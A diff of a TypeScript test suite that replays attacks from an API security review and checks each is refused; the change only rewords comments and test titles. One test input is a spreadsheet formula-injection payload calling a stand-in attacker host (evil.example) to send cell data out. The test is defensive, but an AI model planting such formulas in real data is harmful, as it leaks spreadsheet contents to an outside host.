@@ -1,5 +1,6 @@
-// The attacks of issue 19, replayed over HTTP against the stack as the role that tried each one:
-// every one is now refused, or answered so that it learns nothing, and nothing is stored.
+// The attacks a security review of the site's API found, replayed over HTTP against the stack as
+// the role that tried each one: every one is now refused, or answered so that it learns nothing,
+// and nothing is stored.
 import { createHash } from "node:crypto";
 import { describe, expect, it } from "vitest";
 import { createNodeClient } from "../../../scripts/lib/node-client";
@@ -38,7 +39,7 @@ async function observable(response: Response) {
   return { status: response.status, body: await response.text(), headers };
 }
 
-describe("finding 1: the newsletter list is no membership oracle", () => {
+describe("the newsletter list is no membership oracle", () => {
   it("anon: a new, a known and a differently cased address get one and the same answer, count=exact included", async () => {
     const before = await subscribers();
     const signUp = (email: string) =>
@@ -91,7 +92,7 @@ describe("finding 1: the newsletter list is no membership oracle", () => {
   });
 });
 
-describe("finding 2: one request cannot subscribe thousands of addresses or take their locks", () => {
+describe("one request cannot subscribe thousands of addresses or take their locks", () => {
   const addresses = Array.from({ length: 8000 }, (_, index) => ({
     email: `bulk-${index}@example.com`,
     source_path: "/",
@@ -108,7 +109,7 @@ describe("finding 2: one request cannot subscribe thousands of addresses or take
   });
 });
 
-describe("finding 3: no address that a spreadsheet would run reaches the list", () => {
+describe("no address that a spreadsheet would run reaches the list", () => {
   it("anon: subscribing =HYPERLINK(...) is refused with the CHECK's 400, and nothing is stored", async () => {
     const before = await subscribers();
     for (const email of ['=HYPERLINK("https://evil.example/?"&A3,"x@y.z")', "+1@example.com"]) {
@@ -122,7 +123,7 @@ describe("finding 3: no address that a spreadsheet would run reaches the list", 
   });
 });
 
-describe("finding 4: the secret key does not work from a browser, as on hosted Supabase", () => {
+describe("the secret key does not work from a browser, as on hosted Supabase", () => {
   /** What Chromium sends with a fetch from a page on another site. */
   const browser = {
     "User-Agent":
@@ -238,7 +239,7 @@ describe("finding 4: the secret key does not work from a browser, as on hosted S
   });
 });
 
-describe("finding 5: the security log cannot be forged, flooded or given a chosen address", () => {
+describe("the security log cannot be forged, flooded or given a chosen address", () => {
   interface StoredEvent {
     action: string;
     severity: string;
@@ -315,7 +316,7 @@ describe("finding 5: the security log cannot be forged, flooded or given a chose
   });
 });
 
-describe("finding 6: a kept document's file cannot be swapped, not even with the secret key", () => {
+describe("a kept document's file cannot be swapped, not even with the secret key", () => {
   const kept = "form_adv-1767225600000.pdf";
   const forged = () => new Blob(["%PDF-1.4 forged\n%%EOF\n"], { type: "application/pdf" });
   const sha256 = async (blob: Blob) =>
@@ -381,7 +382,7 @@ describe("finding 6: a kept document's file cannot be swapped, not even with the
   });
 });
 
-describe("finding 7: logic trees read as PostgREST reads them", () => {
+describe("logic trees read as PostgREST reads them", () => {
   const get = (query: string) =>
     fetch(`${env().url}/rest/v1/recommended_resources?select=title&${query}`, {
       headers: { apikey: LOCAL_PUBLISHABLE_KEY },
